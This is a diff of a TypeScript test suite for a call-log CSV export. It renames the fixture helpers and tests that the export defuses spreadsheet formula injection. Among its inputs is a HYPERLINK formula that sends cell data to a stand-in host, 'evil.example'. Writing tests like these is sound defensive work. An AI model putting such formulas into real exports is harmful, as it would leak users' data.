@@ -9,7 +9,7 @@ import {
 } from '../../../src/core/log/csv';
 import { formatPhoneNumber } from '../../../src/core/calls/phone';
 import type { LogEntry } from '../../../src/core/log/entry';
-import { aMiss, anEntry } from './log-entry-fixture';
+import { createMissedEntry, createLogEntry } from './log-entry-fixture';
 
 const words: CsvFormat = {
   columns: Object.fromEntries(CSV_COLUMNS.map((name) => [name, `«${name}»`])) as Record<
@@ -76,7 +76,7 @@ describe('the export', () => {
   });
 
   it('writes a call with local times and durations in seconds', () => {
-    const entry = anEntry({ startedAt: Date.UTC(2026, 0, 9, 4, 5, 6), ringMs: 4_600 });
+    const entry = createLogEntry({ startedAt: Date.UTC(2026, 0, 9, 4, 5, 6), ringMs: 4_600 });
     expect(rowOf(entry)).toEqual({
       started: '2026-01-08 23:05:06',
       answered: '2026-01-08 23:05:11',
@@ -97,7 +97,7 @@ describe('the export', () => {
   });
 
   it('leaves empty what is not known', () => {
-    const entry = aMiss({
+    const entry = createMissedEntry({
       party: { name: undefined, number: undefined },
       customer: undefined,
       customerPath: [],
@@ -112,19 +112,19 @@ describe('the export', () => {
 
   it('quotes what would break a row', () => {
     const name = 'Hopper, "Amazing"\r\nGrace';
-    expect(rowOf(anEntry({ party: { name } }))['name']).toBe(name);
+    expect(rowOf(createLogEntry({ party: { name } }))['name']).toBe(name);
   });
 
   test.each(['=1+1', '+1 202 555', '-2', '@SUM(A1)', '\tx', '\rx', '\nx', ' =1', '＝1'])(
     'defuses the formula %j',
     (name) => {
-      expect(rowOf(anEntry({ party: { name } }))['name']).toBe(`'${name}`);
+      expect(rowOf(createLogEntry({ party: { name } }))['name']).toBe(`'${name}`);
     },
   );
 
   it('leaves alone what only contains such a character', () => {
     for (const name of ['a=b', 'Hopper-Murray', 'x@y', '1+1', "'=quoted"]) {
-      expect(rowOf(anEntry({ party: { name } }))['name']).toBe(name);
+      expect(rowOf(createLogEntry({ party: { name } }))['name']).toBe(name);
     }
   });
 
@@ -136,7 +136,7 @@ describe('the export', () => {
   it('yields no formula and no broken row, whatever the names are', () => {
     fc.assert(
       fc.property(hostile, hostile, hostile, (name, number, customer) => {
-        const entry = anEntry({
+        const entry = createLogEntry({
           party: { name, number },
           customer,
           customerPath: [customer],
@@ -155,7 +155,9 @@ describe('the export', () => {
     (separator) => {
       fc.assert(
         fc.property(hostile, hostile, (name, number) => {
-          const text = bare(toCsv([anEntry({ party: { name, number } })], { ...words, separator }));
+          const text = bare(
+            toCsv([createLogEntry({ party: { name, number } })], { ...words, separator }),
+          );
           // Such a reader ends a cell at its own separators, and removes quotation marks around it.
           const others = separator === ',' ? /[;\t\r\n]/ : /[,\t\r\n]/;
           for (const cell of text.split(others)) {
@@ -169,7 +171,7 @@ describe('the export', () => {
   test.each(['x;"=1+1;y', 'x;"=HYPERLINK("http://evil.example/"&A1);y', 'x,""=1', 'x\t"@SUM(A1)'])(
     'yields no formula behind a quotation mark: %s',
     (name) => {
-      const text = bare(toCsv([anEntry({ party: { name } })], words));
+      const text = bare(toCsv([createLogEntry({ party: { name } })], words));
       for (const cell of text.split(/[;\t\r\n]/)) expect(cell).not.toMatch(/^["\s]*[=+\-@]/);
     },
   );
@@ -177,20 +179,20 @@ describe('the export', () => {
   it.each(['+12025550147', '1001', '0042', '+14155550100;ext=12', '(202) 555-0147'])(
     'keeps the number %s as text without an apostrophe',
     (number) => {
-      const cell = rowOf(anEntry({ party: { number } }))['number'] ?? '';
+      const cell = rowOf(createLogEntry({ party: { number } }))['number'] ?? '';
       expect(cell).toBe(`\u200E${formatPhoneNumber(number, 'US')}`);
       expect(Number.isNaN(Number(cell))).toBe(true);
     },
   );
 
   it('defuses an address that is no number', () => {
-    expect(rowOf(anEntry({ party: { number: '=1+1' } }))['number']).toBe("'=1+1");
-    expect(rowOf(anEntry({ party: { number: '+1;=A2' } }))['number']).toBe("'+1;'=A2");
+    expect(rowOf(createLogEntry({ party: { number: '=1+1' } }))['number']).toBe("'=1+1");
+    expect(rowOf(createLogEntry({ party: { number: '+1;=A2' } }))['number']).toBe("'+1;'=A2");
   });
 
   it('separates by semicolons where it is told so', () => {
     const text = bare(
-      toCsv([anEntry({ party: { name: 'Hopper; Grace' } })], { ...words, separator: ';' }),
+      toCsv([createLogEntry({ party: { name: 'Hopper; Grace' } })], { ...words, separator: ';' }),
     );
     const rows = read(text, ';');
     expect(rows.map((row) => row.length)).toEqual([CSV_COLUMNS.length, CSV_COLUMNS.length]);
